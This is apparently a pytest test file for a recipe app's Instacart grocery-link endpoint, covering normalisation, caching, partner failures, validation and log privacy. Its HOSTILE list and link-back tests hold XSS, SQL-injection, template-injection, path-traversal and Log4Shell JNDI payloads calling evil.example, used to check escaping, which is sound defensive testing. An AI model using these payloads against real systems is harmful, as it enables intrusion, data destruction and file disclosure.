"""Grocery links turn recipe lines into a page of the partner, and report failures."""

import json
import time
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from support.zest import Zest
from zest_client import Guest, sign_up
from zest_client.guest import new_id
from zest_client.http import Answer, send
from zest_client.instacart import SALT, Instacart, ask_for_groceries
from zest_client.rest import call

PATH = "/instacart/generate-url"


@pytest.fixture
def instacart(zest: Zest) -> Instacart:
    return Instacart.of(zest.state)


@pytest.fixture(scope="module")
def token(zest: Zest) -> str:
    return zest.guest().issue_owner_token()


@pytest.fixture
def title() -> str:
    return f"Soup {new_id()}"


def told(answer: Answer) -> tuple[int, str, str]:
    body = answer.json()
    return answer.status, body["code"], body["message"]


def rows(zest: Zest) -> list[dict[str, Any]]:
    pages = (
        zest.client("dynamodb")
        .get_paginator("scan")
        .paginate(
            TableName=zest.outputs["RecipesTable"],
            FilterExpression="SK = :sk",
            ExpressionAttributeValues={":sk": {"S": "G"}},
        )
    )
    return [row for page in pages for row in page["Items"]]


def test_guest_gets_a_link_that_shows_the_list(zest: Zest, token: str, title: str, instacart: Instacart):
    ingredients = [
        {"name": " Chicken Stock ", "quantity": "8", "unit": "fl oz", "displayText": "8 fl oz hot chicken stock"},
        {"name": "EGGS", "quantity": "2", "unit": "dozen"},
        {"name": "Garlic", "quantity": "3", "unit": "cloves"},
        {"name": "Salt", "quantity": "0", "unit": ""},
    ]
    asked = datetime.now(UTC)
    answer = ask_for_groceries(
        zest.origin,
        token,
        title=title,
        ingredients=ingredients,
        instructions=["Boil."],
        imageUrl="http://pictures.example/soup.jpg",
        partnerLinkbackUrl=f"{zest.origin}/recipes/1#steps",
        servings=2,
        locale="en-CA",
    )
    link = answer.json()
    assert (answer.status, sorted(link)) == (200, ["expiresAt", "ingredients", "url"])
    assert link["ingredients"] == [
        {"name": "chicken stock", "quantity": "8", "unit": "fl oz"},
        {"name": "eggs", "quantity": "2", "unit": "dozen"},
        {"name": "garlic", "quantity": "3", "unit": "cloves"},
        {"name": "salt", "quantity": "", "unit": ""},
    ]
    life = datetime.fromisoformat(link["expiresAt"]) - asked
    assert timedelta(days=30) - timedelta(minutes=1) < life <= timedelta(days=30, minutes=1)
    page = send("GET", link["url"]).body.decode()
    assert "8 fl oz hot chicken stock" in page and f'href="{zest.origin}/recipes/1"' in page
    calls, [document] = instacart.pages(title)
    assert calls == 1
    measured = [line.get("measurements") for line in document["ingredients"]]
    assert measured == [
        [{"quantity": 8.0, "unit": "fl oz ounce"}, {"quantity": 236.588, "unit": "milliliter"}],
        [{"quantity": 24.0, "unit": "each"}],
        [{"quantity": 3.0, "unit": "each"}],
        None,
    ]
    # A picture without https is left out.
    assert "image_url" not in document and document["servings"] == 2


def test_omitted_fields_have_defaults(zest: Zest, token: str, instacart: Instacart):
    lines = [{"name": f"Salt of {new_id()}", "quantity": "1", "unit": "tsp"}]
    assert ask_for_groceries(zest.origin, token, ingredients=lines).status == 200
    document = instacart.pages("My Recipe")[1][-1]
    assert (document["instructions"], document["expires_in"]) == ([], 30)
    assert document["landing_page_configuration"] == {"enable_pantry_items": True}


def test_same_list_shares_one_page_until_it_expires(zest: Zest, token: str, title: str, instacart: Instacart):
    first = ask_for_groceries(zest.origin, token, title=title).json()
    member = sign_up(zest.origin)
    for asking in (token, zest.guest().issue_owner_token(), member.issue_owner_token()):
        assert ask_for_groceries(zest.origin, asking, title=title).json() == first
    assert instacart.pages(title)[0] == 1
    for changed in ({"locale": "fr-CA"}, {"servings": 3}, {"ingredients": [SALT, SALT]}):
        other = ask_for_groceries(zest.origin, token, title=title, **changed).json()
        assert other["url"] != first["url"]
    assert instacart.pages(title)[0] == 4

    # A link that has expired, or expires within an hour, is created again.
    [row] = [row for row in rows(zest) if row["url"]["S"] == first["url"]]
    soon = {"N": str(int(time.time()) + 3_500)}
    zest.client("dynamodb").put_item(TableName=zest.outputs["RecipesTable"], Item={**row, "expiresAt": soon})
    again = ask_for_groceries(zest.origin, token, title=title).json()
    assert again["url"] != first["url"]
    assert ask_for_groceries(zest.origin, token, title=title).json() == again
    assert instacart.pages(title)[0] == 5


def test_link_row_does_not_name_the_owner(zest: Zest, guest: Guest, title: str):
    link = ask_for_groceries(zest.origin, guest.issue_owner_token(), title=title).json()
    [row] = [row for row in rows(zest) if row["url"]["S"] == link["url"]]
    assert sorted(row) == ["PK", "SK", "expiresAt", "url"]
    assert title not in json.dumps(row) and guest.identity not in json.dumps(row)


@pytest.mark.parametrize(
    ("faults", "expected", "calls"),
    [
        (["busy"], 200, 2),
        (["tryAgain", "severalTryAgain"], 200, 3),
        (["busy"] * 9, (503, "GROCERY_UNAVAILABLE"), 4),
        (["down"], (503, "GROCERY_UNAVAILABLE"), 1),
        (["refused"], (502, "INVALID_API_RESPONSE"), 1),
        (["severalRefused"], (502, "INVALID_API_RESPONSE"), 1),
        (["keyRefused"], (502, "INVALID_API_RESPONSE"), 1),
        (["moved"], (502, "INVALID_API_RESPONSE"), 1),
        (["nonsense"], (502, "INVALID_API_RESPONSE"), 1),
        (["large"], (502, "INVALID_API_RESPONSE"), 1),
        (["noLink"], (502, "INVALID_API_FORMAT"), 1),
        (["wrongLink"], (502, "INVALID_API_FORMAT"), 1),
        (["silent"], (503, "GROCERY_UNAVAILABLE"), 1),
    ],
    ids=lambda value: value[0] if isinstance(value, list) else "",
)
def test_partner_failure_is_reported_and_not_cached(
    zest: Zest,
    token: str,
    title: str,
    instacart: Instacart,
    faults: list[str],
    expected: int | tuple[int, str],
    calls: int,
):
    instacart.break_next(title, *faults)
    answer = ask_for_groceries(zest.origin, token, title=title)
    assert instacart.pages(title)[0] == calls
    if expected == 200:
        assert answer.status == 200
        return
    status, code, message = told(answer)
    assert (status, code) == expected
    assert (
        message
        == {
            "GROCERY_UNAVAILABLE": "The grocery partner does not answer just now. "
            "Nothing is lost: try again in a moment.",
            "INVALID_API_RESPONSE": "Invalid API response",
            "INVALID_API_FORMAT": "Invalid response format from API",
        }[code]
    )
    instacart.break_next(title)
    assert ask_for_groceries(zest.origin, token, title=title).status == 200


def test_invalid_list_is_refused_with_advice(zest: Zest, token: str):
    none = (400, "NO_INGREDIENTS", "No ingredients provided")
    many = "A grocery list has at most 200 lines: choose fewer, or make several lists."
    long = "Line 2 is too long: a name has at most 300 characters, a quantity or a unit 60."
    for body, expected in [
        ({}, none),
        ({"ingredients": None}, none),
        ({"ingredients": []}, none),
        ({"ingredients": [{**SALT, "name": " \t"}]}, none),
        ({"ingredients": [SALT] * 201}, (400, "TOO_MANY_INGREDIENTS", many)),
        ({"ingredients": [SALT] * 500}, (400, "TOO_MANY_INGREDIENTS", many)),
        ({"ingredients": [SALT, {**SALT, "name": "x" * 301}]}, (400, "INGREDIENT_TOO_LONG", long)),
        ({"ingredients": [SALT], "servings": 0}, (400, "INVALID_INPUT", "servings must be a number from 1 to 10,000.")),
    ]:
        assert told(call(zest.origin, "POST", PATH, token, body)) == expected
    for body in (b"", b"[1]", b"{", b'{"ingredients":"salt"}', b'{"locale":"es-MX"}', b"\xff"):
        assert told(call(zest.origin, "POST", PATH, token, body))[:2] == (400, "INVALID_INPUT")
    whole = json.dumps({"ingredients": [SALT], "instructions": ["x" * 600_000]}).encode()
    assert told(call(zest.origin, "POST", PATH, token, whole))[:2] == (413, "TOO_LARGE")


def test_list_of_200_lines_and_all_steps_is_accepted(zest: Zest, token: str, title: str, instacart: Instacart):
    lines = [{"name": f"Herb {number}", "quantity": "1 1/2", "unit": "tbsp"} for number in range(200)]
    answer = ask_for_groceries(zest.origin, token, title=title, ingredients=lines, instructions=["Stir. " * 60] * 500)
    assert answer.status == 200, answer.body
    _, [document] = instacart.pages(title)
    assert (len(document["ingredients"]), len(document["instructions"])) == (200, 100)


HOSTILE = [
    "<script>alert(1)</script>",
    "'; DROP TABLE recipes; --",
    "{{constructor.constructor('alert(1)')()}}",
    "\u202egnp.exe\u0000\u0007",
    "😈" * 100,
    "../../etc/passwd",
    "${jndi:ldap://evil.example/a}",
]


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_text_is_escaped(zest: Zest, token: str, title: str, instacart: Instacart, text: str):
    line = {"name": text, "quantity": text[:60], "unit": text[:60], "displayText": text}
    answer = ask_for_groceries(
        zest.origin, token, title=title, ingredients=[line], instructions=[text], imageUrl=text, partnerLinkbackUrl=text
    )
    assert answer.status == 200, answer.body
    _, [document] = instacart.pages(title)
    assert "image_url" not in document
    assert "partner_linkback_url" not in document["landing_page_configuration"]
    assert not any(ord(letter) < 32 or letter == "\u202e" for letter in document["ingredients"][0]["name"])
    page = send("GET", answer.json()["url"]).body.decode()
    assert "<script" not in page


@pytest.mark.parametrize("address", ["https://evil.example/", "javascript:alert(1)", "http://localhost@evil.example/"])
def test_link_back_is_limited_to_this_site(zest: Zest, token: str, title: str, instacart: Instacart, address: str):
    assert ask_for_groceries(zest.origin, token, title=title, partnerLinkbackUrl=address).status == 200
    _, [document] = instacart.pages(title)
    assert "partner_linkback_url" not in document["landing_page_configuration"]


def test_former_guest_token_is_refused_and_member_token_accepted(zest: Zest, title: str):
    guest = zest.guest()
    before, claim = guest.issue_owner_token(), guest.issue_claim_token()
    assert ask_for_groceries(zest.origin, before, title=title).status == 200
    member = sign_up(zest.origin)
    member.claim(claim)
    assert told(ask_for_groceries(zest.origin, before, title=title))[0] == 401
    assert ask_for_groceries(zest.origin, member.issue_owner_token(), title=title).status == 200


def test_logs_contain_neither_items_nor_buyer(zest: Zest, guest: Guest, title: str, instacart: Instacart):
    secret = f"truffle {new_id()}"
    own = guest.issue_owner_token()
    instacart.break_next(title, "refused")
    for _ in range(2):
        ask_for_groceries(zest.origin, own, title=title, ingredients=[{**SALT, "name": secret}])
    written = [file.read_text(errors="replace") for file in (zest.state / "logs").glob("*")]
    events = zest.client("logs").filter_log_events(logGroupName="/zest/local/fn-grocery")["events"]
    messages = [event["message"] for event in events]
    assert any("grocery partner refused" in message for message in messages)
    for log in [*written, *messages]:
        for private in (secret, title, own, guest.identity, instacart.settings["apiKey"]):
            assert private not in log
